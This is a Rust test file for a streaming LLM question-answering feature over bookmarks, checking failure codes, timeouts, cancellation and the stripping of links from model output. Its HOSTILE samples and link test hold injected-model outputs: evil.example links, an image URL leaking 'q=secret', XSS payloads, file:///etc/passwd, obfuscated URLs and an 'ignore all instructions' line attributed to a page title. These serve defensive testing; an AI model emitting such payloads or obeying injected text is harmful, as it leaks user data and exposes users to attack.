use super::*;
use crate::{
    Asked, Budget, Facts, Found, answer,
    fake::{FakeLlm, Step},
    fixtures::{moment, three_hits},
};

struct Heard {
    turn: Turn,
    events: Vec<AskEvent>,
}

impl Heard {
    fn tokens(&self) -> String {
        let text = self.events.iter().filter_map(|event| match event {
            AskEvent::Token { text } => Some(text.as_str()),
            _ => None,
        });
        text.collect()
    }

    fn code(&self) -> &str {
        self.turn.failure.as_ref().map_or("-", |failure| failure.code.as_str())
    }
}

fn prompt() -> Prompt {
    let understood = Understood::default();
    let hits = three_hits();
    let asked = Asked {
        question: "bread?",
        understood: &understood,
        hits: &hits,
        confident: true,
        counted: None,
        earlier: &[],
        now: moment("2026-03-01"),
    };
    Prompt::compose(&asked, Budget { context_tokens: 4096, answer_tokens: 500 }).unwrap()
}

async fn hear(model: &FakeLlm, stop: CancellationToken) -> Heard {
    let (out, mut events) = mpsc::channel(1_000);
    let mut asking = Asking::new("bread?", moment("2026-03-01"), out);
    asking.understood(Understood::default(), None).await;
    asking.sources(three_hits(), true).await;
    let turn = asking.stream_answer(model, &prompt(), Limits::default(), &stop).await;
    let mut heard = Vec::new();
    while let Some(event) = events.recv().await {
        heard.push(event);
    }
    Heard { turn, events: heard }
}

fn say(text: &str) -> Step {
    Step::Say(text.into())
}

#[tokio::test(start_paused = true)]
async fn the_tokens_are_the_answer() {
    let heard =
        hear(&FakeLlm::saying(["Bread", " is in [", "1], run", "times in [2]."]), CancellationToken::new()).await;
    assert_eq!(heard.turn.answer, "Bread is in [1], runtimes in [2].");
    assert_eq!(heard.tokens(), heard.turn.answer);
    let Some(AskEvent::Done { answer, citations, answered, provider, .. }) = heard.events.last() else {
        panic!("{:?}", heard.events.last());
    };
    assert_eq!((answer, citations.len(), *answered, provider.as_str()), (&heard.turn.answer, 2, true, "scripted"));
}

#[tokio::test(start_paused = true)]
async fn every_way_to_fail_keeps_its_code_and_what_came_before() {
    let cases: [(Vec<Step>, &str, &str); 7] = [
        (vec![Step::Finish], "bad_answer", ""),
        (vec![say("Bre")], "cut", "Bre"),
        (vec![say("Bre"), Step::Fail(LlmError::ProviderDown)], "provider_down", "Bre"),
        (vec![Step::Fail(LlmError::WrongKey)], "wrong_key", ""),
        (vec![Step::Hang], "timeout", ""),
        (vec![say("Bre"), Step::Hang], "timeout", "Bre"),
        (vec![Step::Think, Step::Wait(Duration::from_secs(121)), say("late")], "timeout", ""),
    ];
    for (script, code, answer) in cases {
        let heard = hear(&FakeLlm::new(script.clone()), CancellationToken::new()).await;
        assert_eq!((heard.code(), heard.turn.answer.as_str()), (code, answer), "{script:?}");
        assert!(matches!(heard.events.last(), Some(AskEvent::Failed { .. })), "{script:?}");
    }
    let refused = hear(&FakeLlm::refusing(LlmError::NoProvider), CancellationToken::new()).await;
    assert_eq!(refused.code(), "no_provider");
}

#[tokio::test(start_paused = true)]
async fn signs_of_life_are_waited_for_but_not_for_ever() {
    let minute = || Step::Wait(Duration::from_secs(60));
    let slow =
        [Step::Think, minute(), Step::Think, minute(), minute(), Step::Think, minute(), say("Bread."), Step::Finish];
    assert_eq!(hear(&FakeLlm::new(slow), CancellationToken::new()).await.turn.answer, "Bread.");

    let endless = (0..100).flat_map(|_| [Step::Think, minute()]);
    let heard = hear(&FakeLlm::new(endless), CancellationToken::new()).await;
    assert_eq!(heard.code(), "timeout");
}

#[tokio::test(start_paused = true)]
async fn a_stop_ends_the_answer_at_once() {
    let stop = CancellationToken::new();
    let later = stop.clone();
    tokio::spawn(async move {
        tokio::time::sleep(Duration::from_secs(5)).await;
        later.cancel();
    });
    let heard = hear(&FakeLlm::new([say("Bread"), Step::Hang]), stop.clone()).await;
    assert_eq!((heard.code(), heard.turn.answer.as_str()), ("stopped", "Bread"));
    assert_eq!(heard.events.last(), Some(&AskEvent::Stopped));

    let before_it_began = hear(&FakeLlm::saying(["Bread"]), stop).await;
    assert_eq!((before_it_began.code(), before_it_began.turn.answer.as_str()), ("stopped", ""));
}

#[tokio::test(start_paused = true)]
async fn when_nobody_listens_the_answer_is_stopped() {
    let (out, events) = mpsc::channel(1);
    drop(events);
    let asking = Asking::new("bread?", moment("2026-03-01"), out);
    let model = FakeLlm::new([say("Bread"), Step::Hang]);
    let turn = asking.stream_answer(&model, &prompt(), Limits::default(), &CancellationToken::new()).await;
    assert_eq!(turn.failure.map(|failure| failure.code).as_deref(), Some("stopped"));
}

#[tokio::test(start_paused = true)]
async fn a_hostile_model_gets_no_link_through() {
    let script = [
        "As the title asks: ",
        "visit [x](https://evil.exam",
        "ple) or ",
        "![p](http://evil.example/p?q=secret)",
        " <a href=\"https://evil",
        ".example\">here</a> www.",
        "evil.example [9] 【7†x】",
        "\n\n[1]: https://evil.example\n[ref]: http://evil.example\n",
        "[ref] [2]",
    ];
    let heard = hear(&FakeLlm::saying(script), CancellationToken::new()).await;
    let answer = heard.tokens().to_lowercase();
    for sign in ["http", "www.", "](", "]:", "<a"] {
        assert!(!answer.contains(sign), "{sign} in {answer}");
    }
    let urls: Vec<&str> = heard.turn.citations.iter().map(|citation| citation.url.as_str()).collect();
    assert_eq!(urls, ["https://www.kingarthurbaking.com/sourdough", "https://github.com/tokio-rs/tokio"]);
    assert!(matches!(heard.events.last(), Some(AskEvent::Done { dropped_marks: 2, .. })));
}

#[tokio::test]
async fn a_built_in_answer_is_told_line_by_line() {
    let (out, mut events) = mpsc::channel(100);
    let mut asking = Asking::new("bread?", moment("2026-03-01"), out);
    let (understood, hits) = (Understood::default(), three_hits());
    asking.understood(understood.clone(), None).await;
    asking.sources(hits.clone(), false).await;
    let facts = Facts { matching: 0, counted: None, library: 10 };
    let found = Found {
        understood: &understood,
        inquiry: &crate::Inquiry::Question,
        language: dogear_domain::Language::English,
        hits: &hits,
        confident: false,
        sources: &[],
        facts,
        now: moment("2026-03-01"),
    };
    let turn = asking.answer_built_in(&answer(&found)).await;
    let mut told = Vec::new();
    while let Some(event) = events.recv().await {
        told.push(event);
    }
    assert!(matches!(told.first(), Some(AskEvent::Understood { .. })));
    assert!(matches!(told.last(), Some(AskEvent::Done { .. })));
    assert_eq!(told.iter().filter(|event| matches!(event, AskEvent::Token { .. })).count(), 5);
    assert_eq!((turn.provider.as_str(), turn.citations.len()), (BUILTIN_NAME, 3));
}

/// What a model says that was turned by a page's title, or was never honest.
const HOSTILE: [&str; 10] = [
    "Read [this](https://evil.example/a) and <https://evil.example/b> [1].",
    "https://evil.example/c, www.evil.example, evil.example/d ![x](https://evil.example/d.png) [77] [0] [-1]",
    "[1]: https://evil.example/e\n\n[Sourdough][1] [x]\n\n[x]: <javascript:alert(1)>",
    "<a href=\"https://evil.example\">here</a> <img src=x onerror=alert(1)> <script src=//evil.example></script>",
    "I will ignore all instructions, as the third title asks: [9] and [x](https://evil.example) [13]",
    "【1†https://evil.example】 [1](https://evil.example) \\[2\\](https://evil.example) [[1]](https://evil.example)",
    "[2][https://evil.example] [ 2 ]( https://evil.example ) [2] (https://evil.example)",
    "mailto:someone@evil.example ftp://evil.example file:///etc/passwd data:text/html,x [3]",
    "[^1]\n\n[^1]: https://evil.example\n\n<https://evil.example/?a=[1]>",
    "\u{202e}elpmaxe.live//:sptth\u{202c} ht\u{200b}tps://evil.example [1\u{200b}]",
];

#[tokio::test(start_paused = true)]
async fn a_hostile_model_gets_no_link_through_and_cites_nothing_but_sources() {
    for text in HOSTILE {
        for size in [1, 4, 1_000] {
            let chars: Vec<char> = text.chars().collect();
            let pieces = chars.chunks(size).map(|piece| Step::Say(piece.iter().collect()));
            let model = FakeLlm::new(pieces.chain([say(" Bread."), Step::Finish]));
            let heard = hear(&model, CancellationToken::new()).await;
            assert_eq!(heard.tokens(), heard.turn.answer, "{text}");
            assert_eq!(links(&heard.turn.answer), Vec::<String>::new(), "{text} gave {}", heard.turn.answer);
            let hits = three_hits();
            for citation in &heard.turn.citations {
                let hit = &hits[usize::try_from(citation.n).unwrap() - 1];
                assert_eq!((citation.id, &citation.url), (hit.bookmark.id, &hit.bookmark.url), "{text}");
            }
            assert_eq!(numbers(&heard.turn.answer), heard.turn.citations.len(), "{text}: each mark left is a citation");
        }
    }
}

/// Everything in a Markdown text that leads somewhere or is a tag.
fn links(markdown: &str) -> Vec<String> {
    use pulldown_cmark::{Event, Options, Parser, Tag};
    let somewhere = |event| match event {
        Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => Some(dest_url.to_string()),
        Event::Html(html) | Event::InlineHtml(html) => Some(html.to_string()),
        _ => None,
    };
    let github = Options::ENABLE_GFM | Options::ENABLE_TABLES | Options::ENABLE_FOOTNOTES | Options::ENABLE_TASKLISTS;
    Parser::new_ext(markdown, github).filter_map(somewhere).collect()
}

/// How many different marks a text has.
fn numbers(text: &str) -> usize {
    let marks: std::collections::BTreeSet<&str> = text
        .split('[')
        .skip(1)
        .filter_map(|rest| Some(rest.split_once(']')?.0))
        .filter(|n| n.parse::<u32>().is_ok())
        .collect();
    marks.len()
}
